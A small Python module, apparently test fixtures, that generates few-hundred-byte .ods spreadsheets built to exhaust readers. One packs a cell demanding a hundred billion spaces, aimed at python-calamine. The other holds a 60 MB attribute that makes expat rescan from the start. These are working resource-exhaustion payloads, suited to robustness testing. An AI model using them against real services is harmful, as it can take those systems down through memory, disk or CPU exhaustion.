"""Files of some hundred bytes that cost whoever reads them minutes or gigabytes."""

import io
import zipfile

_NAMESPACES = "urn:oasis:names:tc:opendocument:xmlns:"
_KIND = "application/vnd.oasis.opendocument.spreadsheet"


def zipped(parts):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in parts.items():
            new.writestr(name, content)
    return packed.getvalue()


def open_document(cell):
    """An .ods with one cell."""
    content = (
        f'<office:document-content xmlns:office="{_NAMESPACES}office:1.0" xmlns:table="{_NAMESPACES}table:1.0" '
        f'xmlns:text="{_NAMESPACES}text:1.0"><office:body><office:spreadsheet><table:table table:name="a">'
        f"<table:table-row>{cell}</table:table-row></table:table></office:spreadsheet></office:body>"
        "</office:document-content>"
    )
    return zipped({"mimetype": _KIND, "content.xml": content, "META-INF/manifest.xml": "<manifest/>"})


def spaces():
    """592 bytes that say: a hundred times a billion spaces, which python-calamine writes out."""
    billion = '<text:s text:c="1000000000"/>'
    return open_document(
        f'<table:table-cell office:value-type="string"><text:p>{billion * 100}</text:p></table:table-cell>'
    )


def endless_attribute(letters=60_000_000):
    """60 kB with an attribute of 60 MB, which expat reads from its beginning with every piece that comes."""
    return open_document(f'<table:table-cell table:style-name="{"y" * letters}"/>')
